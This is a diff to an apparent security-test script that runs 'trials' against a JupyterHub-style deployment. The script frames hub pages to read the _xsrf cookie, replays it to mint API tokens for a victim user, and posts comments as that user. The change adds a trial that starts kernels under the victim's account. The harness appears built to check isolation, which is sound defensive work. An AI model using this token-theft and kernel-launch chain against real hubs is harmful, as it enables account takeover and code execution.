@@ -28,22 +28,23 @@ SCRIPT = """
   await trial("token", () => asked("HUB/hub/api/users/VICTIM/tokens", {...json, body: "{}"}));
   await trial("comment", () => asked("HUB/services/api/v1/comments",
     {...json, body: JSON.stringify({target: "instrument:AAPL.XNAS", body: "stolen"})}));
-  await trial("key", async () => {
+  const keyed = async (framed, path) => {
     const frame = document.createElement("iframe");
     const loaded = new Promise((done) => { frame.onload = done; setTimeout(done, 4000); });
-    frame.src = "HUB/hub/logo";
+    frame.src = framed;
     document.body.append(frame);
     await loaded;
     const found = /_xsrf=([^;]+)/.exec(frame.contentDocument.cookie);
     if (found === null) throw new DOMException("", "none");
-    const headers = {...json.headers, "X-XSRFToken": found[1]};
-    return asked("HUB/hub/api/users/VICTIM/tokens", {...json, headers, body: "{}"});
-  });
+    return asked(path, {...json, headers: {...json.headers, "X-XSRFToken": found[1]}, body: "{}"});
+  };
+  await trial("key", () => keyed("HUB/hub/logo", "HUB/hub/api/users/VICTIM/tokens"));
+  await trial("kernel", () => keyed("HUB/user/VICTIM/voila/static/voila.js", "HUB/user/VICTIM/api/kernels"));
   await trial("parent", () => {
     if (parent === window) throw new DOMException("", "none");
     return parent.document.title;
   });
-  for (const path of ["/hub/token", "/services/dashboards/home"]) {
+  for (const path of ["/hub/token", "/services/dashboards/home", "/user/VICTIM/lab"]) {
     await trial("frame " + path, async () => {
       const frame = document.createElement("iframe");
       const loaded = new Promise((done) => { frame.onload = done; setTimeout(done, 4000); });
